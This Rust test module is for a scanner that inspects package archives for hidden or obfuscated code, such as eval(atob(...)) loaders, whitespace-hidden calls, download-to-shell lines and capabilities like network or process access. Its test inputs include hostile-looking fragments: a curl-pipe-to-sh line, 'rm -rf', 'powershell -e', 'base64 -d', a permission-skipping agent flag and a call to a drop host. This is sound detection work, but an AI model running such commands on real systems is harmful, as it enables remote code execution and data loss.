//! The scan on texts written for it: every signal beside what looks like it, and whatever could make it slow or blind. Nothing
//! here does anything: hosts are names of a list, payloads are placeholders.

use std::collections::BTreeSet;
use std::time::Duration;
use std::time::Instant;

use super::*;
use crate::ecosystem::archive::Kind;
use crate::model::profile::Capability;
use crate::model::signal::SignalKind;

mod honest;
mod signals;

fn entry(path: &str, size: usize) -> Entry {
    Entry { path: path.to_owned(), kind: Kind::File, size: size as u64, mode: 0o644 }
}

/// Scans files in pieces as an archive gives them.
fn scan(files: &[(&str, &[u8])]) -> Seen {
    const PIECE_BYTES: usize = 64 * 1024;
    let mut scan = Scan::default();
    for (path, content) in files {
        scan.begin(&entry(path, content.len()));
        content.chunks(PIECE_BYTES).for_each(|piece| scan.piece(piece));
        scan.end();
    }
    scan.finish()
}

fn kinds(path: &str, content: &[u8]) -> BTreeSet<SignalKind> {
    scan(&[(path, content)]).kinds
}

fn sees(path: &str, content: &str, kind: SignalKind) -> bool {
    kinds(path, content.as_bytes()).contains(&kind)
}

const EVAL: &str = "eval(atob('cGxhY2Vob2xkZXI='))";

#[test]
fn every_file_is_looked_through_whatever_it_is_called() {
    for path in ["index.js", "bin/run", "a.map", "a.json", "x.unknown", ".hidden", "a.vue", "page.html", "binding.gyp", "lib/a.d.ts"] {
        assert!(sees(path, &format!("var a = 1;\n{EVAL}"), SignalKind::DecodedAndRun), "{path}");
    }
    let declared = "var _0x1a2b=1;var _0x1a2c=2;let _0x1a2d=3;";
    let image = [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".as_slice(), &[0; 100], declared.as_bytes()].concat();
    assert!(kinds("logo.png", &image).contains(&SignalKind::ObfuscatorMarks));
    let addon = [b"\x7fELF\0\0".as_slice(), declared.as_bytes()].concat();
    assert!(kinds("build/a.node", &addon).contains(&SignalKind::ObfuscatorMarks));
}

#[test]
fn what_is_written_for_people_may_show_how_it_looks() {
    let declared = "var _0x1a2b=1;var _0x1a2c=2;let _0x1a2d=3;";
    assert!(!sees("README.md", &format!("# Output\n\n{declared}\n"), SignalKind::ObfuscatorMarks));
    let dumped = format!("# Output\n\n{declared}\n\n{}{declared}\n", "x;".repeat(1_000));
    assert!(sees("README.md", &dumped, SignalKind::ObfuscatorMarks));
    assert!(!sees("docs/a.txt", "curl https://a.example/i.sh | sh", SignalKind::DownloadToShell));
    assert!(!sees("README", "Run `claude --dangerously-skip-permissions` never.", SignalKind::AgentUnleashed));
}

#[test]
fn utf16_is_read() {
    for big_endian in [false, true] {
        for mark in ["\u{feff}", ""] {
            let bytes: Vec<u8> = format!("{mark}const a = 1;\n{EVAL}")
                .encode_utf16()
                .flat_map(|unit| if big_endian { unit.to_be_bytes() } else { unit.to_le_bytes() })
                .collect();
            assert!(kinds("a.js", &bytes).contains(&SignalKind::DecodedAndRun));
        }
    }
    let unreadable = scan(&[("a.js", b"\xff\xfe\0\0e\0\0\0")]);
    assert_eq!(unreadable.unscanned, ["a.js: its text is in UTF-32"]);
}

#[test]
fn nothing_is_cut_in_two_by_windows_and_pieces() {
    for place in (WINDOW_BYTES - 40..WINDOW_BYTES + 8).chain([64 * 1024 - 9, 2 * WINDOW_BYTES - OVERLAP_BYTES - 5, 3 * WINDOW_BYTES]) {
        let content = format!("{}{EVAL}{}", ";\n".repeat(place / 2), ";".repeat(100));
        assert!(sees("a.js", &content, SignalKind::DecodedAndRun), "{place}");
    }
    let blanks = format!("a();{}run(1); //", " ".repeat(3 * WINDOW_BYTES));
    assert!(sees("a.js", &blanks, SignalKind::WhitespaceHidden));
}

#[test]
fn excerpts_are_short_and_harmless() {
    let content = format!("{}\u{202e}\u{1b}[2J;{EVAL}{}", "b".repeat(300), "c".repeat(9_000));
    let seen = scan(&[("a.js", content.as_bytes())]);
    for signal in &seen.signals {
        assert!(signal.excerpt.len() <= 160 && !signal.excerpt.contains(['\u{1b}', '\u{202e}']), "{signal:?}");
    }
    let decoded = seen.signals.iter().find(|signal| signal.kind == SignalKind::DecodedAndRun).unwrap();
    assert!(decoded.excerpt.contains("eval(atob("), "{decoded:?}");
}

#[test]
fn so_many_places_of_a_kind_are_kept_and_more_is_said() {
    let files: Vec<(String, &[u8])> = (0..1_100).map(|n| (format!("f{n}.js"), EVAL.as_bytes())).collect();
    let files: Vec<(&str, &[u8])> = files.iter().map(|(path, content)| (path.as_str(), *content)).collect();
    let seen = scan(&files);
    assert_eq!((seen.signals.len(), seen.kinds.len()), (1_024, 1));
    assert!(seen.unscanned.iter().any(|told| told.contains("places that are alike")), "{:?}", seen.unscanned);
}

#[test]
fn what_is_too_much_is_said_to_be_unscanned() {
    let mut scan = Scan { scanned_bytes: SCANNED_BYTES_MAX, ..Scan::default() };
    for path in ["a.js", "b.js"] {
        scan.begin(&entry(path, 1));
        scan.piece(b"x");
        scan.end();
    }
    let seen = scan.finish();
    assert_eq!(seen.unscanned, ["a.js: behind more than could be looked through", "b.js: behind more than could be looked through"]);
    assert_eq!(seen.files.len(), 2);
}

#[test]
fn reach_hosts_and_imports_are_told() {
    let seen = scan(&[
        ("index.js", b"const h = require('https'); import { x } from './lib/x.js';\nh.get('https://api.acme.example/v1');".as_slice()),
        ("lib/x.js", b"if (process.env.NODE_ENV) {} h.request({ hostname: 'drop.example' })"),
        ("README.md", b"require('child_process') 'https://docs.acme.example' process.env.HOME"),
        ("setup.sh", b"curl https://files.acme.example/x"),
    ]);
    assert_eq!(seen.capabilities, BTreeSet::from([Capability::Network]));
    assert_eq!(seen.hosts.iter().map(String::as_str).collect::<Vec<_>>(), ["api.acme.example", "drop.example", "files.acme.example"]);
    assert_eq!(seen.imports("index.js").collect::<Vec<_>>(), ["./lib/x.js"]);
    assert!(seen.files["index.js"].reaches(Capability::Network) && !seen.files["lib/x.js"].reaches(Capability::Network));
    for (content, capability) in [
        ("require('child_process')", Capability::Process),
        ("import{exec}from\"node:child_process\"", Capability::Process),
        ("process.getBuiltinModule('fs')", Capability::Filesystem),
        ("a = eval(b)", Capability::Eval),
        ("new Function(b)", Capability::Eval),
        ("process.env.HOME", Capability::Environment),
        ("new WebSocket(u)", Capability::Network),
        ("await import('dns/promises')", Capability::Network),
    ] {
        assert_eq!(scan(&[("a.js", content.as_bytes())]).capabilities, BTreeSet::from([capability]), "{content}");
    }
}

#[test]
fn marks_of_equal_files_are_equal() {
    let seen = scan(&[("a.js", b"one"), ("b.js", b"one"), ("c.js", b"two"), ("d.md", b"one")]);
    let mark = |path: &str| (seen.files[path].digest, seen.files[path].is_code);
    assert_eq!(mark("a.js"), mark("b.js"));
    assert_ne!(mark("a.js").0, mark("c.js").0);
    assert_eq!(mark("d.md"), (mark("a.js").0, false));
    assert!(scan(&[("a.js", b"aaaa")]).entropy() == 0 && scan(&[("a.js", b"abcd")]).entropy() == 2_000);
}

/// Texts of one repeated piece, each chosen to make some rule try as often and as long as it can: what went over a window
/// once for each of its bytes would take an hour.
#[test]
fn time_is_linear_in_the_bytes() {
    const LIMIT: Duration = Duration::from_secs(10);
    let time = |piece: &str| {
        let content = piece.repeat(WINDOW_BYTES / piece.len());
        let start = Instant::now();
        scan(&[("a.js", content.as_bytes())]);
        start.elapsed()
    };
    for piece in [
        "`${`",
        "(",
        "eval(",
        "eval(atob",
        "curl ",
        "curl x | ",
        "://",
        "'https://a",
        "require('./",
        "from '",
        "_0x",
        "var _0xabc",
        "hostname: 'a.",
        "https://file.io.",
        "JSON.stringify({",
        "process.env",
        " ",
        "                                                        x",
        "\\x41",
        "\\x41\\x4",
        "/proc/",
        "trufflehog ",
        "-enc ",
        "global[\"aaaaaaaaaaaaaaaaaaaaaaaaaa",
        "\u{fe0f}\u{fe0f}\u{fe0f}x",
        "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        "rm -rf ",
        "base64 -d ",
        "scripts.preinstall",
        "powershell -e ",
    ] {
        // A machine may have been busy otherwise.
        assert!((0..3).any(|_| time(piece) < LIMIT), "{piece:?}");
    }
}
